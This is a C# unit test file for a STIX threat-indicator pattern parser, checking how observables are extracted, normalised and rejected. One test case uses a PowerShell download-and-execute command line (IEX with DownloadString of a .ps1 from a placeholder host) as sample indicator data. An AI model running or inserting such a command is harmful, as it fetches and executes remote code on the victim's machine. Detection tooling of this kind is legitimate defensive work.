using Sightline.Parsers.Stix;

namespace Sightline.Parsers.Tests.Stix;

public sealed class StixPatternParserTests
{
    // name, pattern, expected observables as "observation|type|property|value" joined by " ; ", expected note fragment
    public static TheoryData<string, string, string, string> Cases => new()
    {
        { "single domain", "[domain-name:value = 'Evil.Example.COM.']", "1|domain-name|value|evil.example.com", "" },
        { "ipv4", "[ipv4-addr:value = '198.51.100.7']", "1|ipv4-addr|value|198.51.100.7", "" },
        { "ipv6 lower-cased", "[ipv6-addr:value = '2001:DB8::1']", "1|ipv6-addr|value|2001:db8::1", "" },
        { "url keeps case", "[url:value = 'http://a.example/Path?q=1']", "1|url|value|http://a.example/Path?q=1", "" },
        { "email trimmed", "[email-addr:value = 'kgf2016@yonsei.ac.kr ']", "1|email-addr|value|kgf2016@yonsei.ac.kr", "" },
        { "quoted SHA-256 hash", "[file:hashes.'SHA-256' = 'E7C4618C']", "1|file|hashes.'SHA-256'|e7c4618c", "" },
        { "unquoted MD5 hash", "[file:hashes.MD5 = 'D41D8CD98F00B204E9800998ECF8427E']", "1|file|hashes.MD5|d41d8cd98f00b204e9800998ecf8427e", "" },
        { "quoted MD5 normalised to unquoted", "[file:hashes.'MD5' = 'aa']", "1|file|hashes.MD5|aa", "" },
        { "OR inside one observation", "[domain-name:value = 'a.example' OR domain-name:value = 'b.example']",
            "1|domain-name|value|a.example ; 1|domain-name|value|b.example", "" },
        { "AND inside one observation", "[file:hashes.'SHA-256' = 'ab' AND file:name = 'form.xlsm']",
            "1|file|hashes.'SHA-256'|ab ; 1|file|name|form.xlsm", "" },
        { "several observations", "[ipv4-addr:value = '192.0.2.1'] OR [url:value = 'http://x.example/'] AND [domain-name:value = 'y.example']",
            "1|ipv4-addr|value|192.0.2.1 ; 2|url|value|http://x.example/ ; 3|domain-name|value|y.example", "" },
        { "nested parentheses", "([domain-name:value = 'a.example'] OR ([ipv4-addr:value = '192.0.2.2'])) FOLLOWEDBY [url:value = 'http://z/']",
            "1|domain-name|value|a.example ; 2|ipv4-addr|value|192.0.2.2 ; 3|url|value|http://z/", "" },
        { "grouped comparisons", "[(file:name = 'a.zip' OR file:name = 'b.zip') AND (email:subject = 'Hi')]",
            "1|file|name|a.zip ; 1|file|name|b.zip ; 1|email|subject|Hi", "" },
        { "escaped quote and backslash", @"[process:command_line = 'IEX (x.DownloadString(\'https://h/p.ps1\')); C:\\Temp\\a']",
            @"1|process|command_line|IEX (x.DownloadString('https://h/p.ps1')); C:\Temp\a", "" },
        { "lone backslash kept", @"[directory:path = 'C:\Users\Public']", @"1|directory|path|C:\Users\Public", "" },
        { "number and boolean values", "[network-traffic:dst_port = 8060 AND x509-certificate:is_self_signed = false]",
            "1|network-traffic|dst_port|8060 ; 1|x509-certificate|is_self_signed|false", "" },
        { "reference path and extension keys", "[network-traffic:dst_ref.value = '148.251.204.131' AND network-traffic:extensions.'http-request-ext'.'request_method' = 'get']",
            "1|network-traffic|dst_ref.value|148.251.204.131 ; 1|network-traffic|extensions.'http-request-ext'.request_method|get", "" },
        { "list index", "[windows-registry-key:values[*].name = 'showCompColor']", "1|windows-registry-key|values[*].name|showCompColor", "" },
        { "qualifiers are accepted", "[ipv4-addr:value = '192.0.2.9'] REPEATS 5 TIMES WITHIN 300 SECONDS START t'2016-06-01T00:00:00Z' STOP t'2016-07-01T00:00:00Z'",
            "1|ipv4-addr|value|192.0.2.9", "" },
        { "LIKE noted, equality kept", "[domain-name:value = 'a.example' AND process:command_line LIKE 'cmd%']",
            "1|domain-name|value|a.example", "unsupported operator LIKE on process:command_line" },
        { "MATCHES only", "[url:value MATCHES '^http://']", "", "unsupported operator MATCHES on url:value" },
        { "IN list", "[ipv4-addr:value IN ('192.0.2.1', '192.0.2.2')]", "", "unsupported operator IN on ipv4-addr:value" },
        { "not equal", "[domain-name:value != 'a.example']", "", "unsupported operator != on domain-name:value" },
        { "NOT equal", "[domain-name:value NOT = 'a.example']", "", "unsupported operator NOT = on domain-name:value" },
        { "missing closing bracket", "[domain-name:value = 'a.example'", "", "pattern syntax error at offset 32: expected ']'" },
        { "unterminated string", "[domain-name:value = 'a.example]", "", "pattern syntax error at offset 21: unterminated string literal" },
        { "no bracket at all", "domain-name:value = 'a.example'", "", "pattern syntax error at offset 0: expected '[' or '('" },
        { "missing value", "[domain-name:value = ]", "", "expected a value" },
        { "trailing garbage", "[domain-name:value = 'a'] garbage", "", "expected end of pattern" },
        { "empty pattern", "", "", "pattern syntax error at offset 0" },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public void Extracts_equality_observables(string name, string pattern, string expected, string note)
    {
        var result = StixPatternParser.Parse(pattern);

        var actual = string.Join(" ; ", result.Observables.Select(o => $"{o.Observation}|{o.ObjectType}|{o.Property}|{o.Value}"));
        Assert.True(expected == actual, $"{name}: expected [{expected}] got [{actual}]");
        if (note.Length == 0)
        {
            Assert.Empty(result.Notes);
        }
        else
        {
            Assert.Contains(result.Notes, n => n.Contains(note, StringComparison.Ordinal));
        }
    }

    [Fact]
    public void A_syntax_error_discards_observables_parsed_before_it()
    {
        var result = StixPatternParser.Parse("[domain-name:value = 'a.example'] AND [ipv4-addr:value = ");

        Assert.Empty(result.Observables);
        Assert.Single(result.Notes);
    }
}
